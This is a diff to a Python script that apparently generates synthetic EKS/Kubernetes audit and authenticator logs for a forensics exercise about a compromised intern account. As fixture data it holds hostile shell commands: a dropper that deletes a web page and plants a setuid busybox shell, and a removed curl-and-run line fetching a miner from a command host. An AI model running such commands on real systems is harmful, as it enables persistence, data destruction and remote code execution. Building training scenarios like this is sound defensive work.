@@ -25,6 +25,16 @@ INTERN_KEY = "AKIA5DEVINTERN7EXMPL"
 NODE_ROLE = "eksctl-eksworkshop-eksctl-nodegroup-ng-1-NodeInstanceRole"
 NODE_KEY = "ASIA5NODEROLE7STOLEN"
 
+# The dropper the intruder exec'd into the container: generators/containerd-node.sh runs exactly this on the node.
+DROPPER = """
+  mkdir -p /tmp/.x
+  printf "#!/bin/sh\\nwhile true; do sleep 60; done\\n" > /tmp/.x/miner.sh
+  chmod 755 /tmp/.x/miner.sh
+  printf "debug=true\\nupload=http://203.0.113.50/drop\\n" > /etc/sysdiag.conf
+  rm /var/www/index.html
+  cp /bin/busybox /tmp/.x/sh && chmod 4755 /tmp/.x/sh
+"""
+
 def uid(*parts):
     h = hashlib.sha256("/".join(map(str, parts)).encode()).hexdigest()
     return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-8{h[17:20]}-{h[20:32]}"
@@ -176,9 +186,9 @@ def klog(time, level, pid, source, message):
     d = t(time)
     return f"{level}{d.strftime('%m%d %H:%M:%S.%f')} {pid:>7} {source}] {message}"
 
-def authenticator(time, arn, username, uid_, groups="[]", client="127.0.0.1:48212"):
+def authenticator(time, arn, username, uid_, key, groups="[]", client="127.0.0.1:48212"):
     return (t(time), STREAMS["authenticator"],
-            f'time="{time}" level=info msg="access granted" arn="{arn}" client="{client}" groups="{groups}" method=POST path=/authenticate '
+            f'time="{time}" level=info msg="access granted" accesskeyid={key} arn="{arn}" client="{client}" groups="{groups}" method=POST path=/authenticate '
             f'stsendpoint=sts.us-west-2.amazonaws.com uid="{uid_}" username={username}')
 
 def control_plane():
@@ -211,9 +221,9 @@ def control_plane():
                                                                  f'"Controller observed a new Node" node="{NODE}"')),
     ]
     # dev-intern authenticates (kubectl through aws eks get-token) and creates the privileged pod.
-    for time in ["2026-11-29T06:21:55Z", "2026-11-29T06:23:29Z", "2026-11-29T06:24:04Z", "2026-11-29T06:24:29Z"]:
-        lines.append(authenticator(time, INTERN_ARN, "dev-intern", f"aws-iam-authenticator:{ACCOUNT}:AIDA5DEVINTERN0000001"))
-    lines.append(authenticator("2026-11-29T06:02:31Z", f"arn:aws:iam::{ACCOUNT}:role/PlatformOps", "platform-ops", f"aws-iam-authenticator:{ACCOUNT}:AROA5CONSOLE000000001",
+    for time in ["2026-11-29T06:21:55Z", "2026-11-29T06:23:29Z", "2026-11-29T06:23:31Z", "2026-11-29T06:23:58Z"]:
+        lines.append(authenticator(time, INTERN_ARN, "dev-intern", f"aws-iam-authenticator:{ACCOUNT}:AIDA5DEVINTERN0000001", INTERN_KEY))
+    lines.append(authenticator("2026-11-29T06:02:31Z", f"arn:aws:iam::{ACCOUNT}:role/PlatformOps", "platform-ops", f"aws-iam-authenticator:{ACCOUNT}:AROA5CONSOLE000000001", "ASIA5PLATFORMOPS0001",
                                groups="[platform-ops]"))
     lines += [
         audit("2026-11-29T06:21:56.210Z", "list", "/api/v1/namespaces/default/pods?limit=500", INTERN_K8S, "pods", ns="default",
@@ -228,14 +238,16 @@ def control_plane():
               subresource="binding", code=201, ips=("10.0.0.12",), agent="kube-scheduler/v1.31.2 (linux/amd64) kubernetes/7f9249a/scheduler", level="Request",
               request={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": "sysdiag", "namespace": "default", "uid": POD_UID},
                        "target": {"kind": "Node", "name": NODE}}),
-        audit("2026-11-29T06:24:05.417Z", "create", exec_uri(["sh", "-c", f"curl -s http://{C2}/miner.sh -o /tmp/miner.sh && sh /tmp/miner.sh"]), INTERN_K8S, "pods",
+        # The attacker's script execs the dropper the moment the container runs (the node's disk has its files at
+        # 06:23:31.47), then an interactive shell (PID 5120 in memory) from which the host is reached.
+        audit("2026-11-29T06:23:31.402Z", "create", exec_uri(["sh", "-c", DROPPER]), INTERN_K8S, "pods",
               ns="default", name="sysdiag", subresource="exec", code=101,
               reason='RBAC: allowed by RoleBinding "dev-intern-edit/default" of ClusterRole "edit" to User "dev-intern"'),
-        audit("2026-11-29T06:24:30.733Z", "create", exec_uri(["sh"], tty=True), INTERN_K8S, "pods", ns="default", name="sysdiag", subresource="exec", code=101,
+        audit("2026-11-29T06:23:58.611Z", "create", exec_uri(["sh"], tty=True), INTERN_K8S, "pods", ns="default", name="sysdiag", subresource="exec", code=101,
               reason='RBAC: allowed by RoleBinding "dev-intern-edit/default" of ClusterRole "edit" to User "dev-intern"'),
         # From inside the pod: its service account token tried on secrets.
         audit("2026-11-29T06:25:12.050Z", "list", "/api/v1/namespaces/kube-system/secrets", POD_SA, "secrets", ns="kube-system", code=403, ips=("192.168.23.141",),
-              agent="curl/8.5.0", response='secrets is forbidden: User "system:serviceaccount:default:default" cannot list resource "secrets" in API group "" in the namespace "kube-system"',
+              agent="Wget", response='secrets is forbidden: User "system:serviceaccount:default:default" cannot list resource "secrets" in API group "" in the namespace "kube-system"',
               decision="forbid"),
     ]
     lines += [
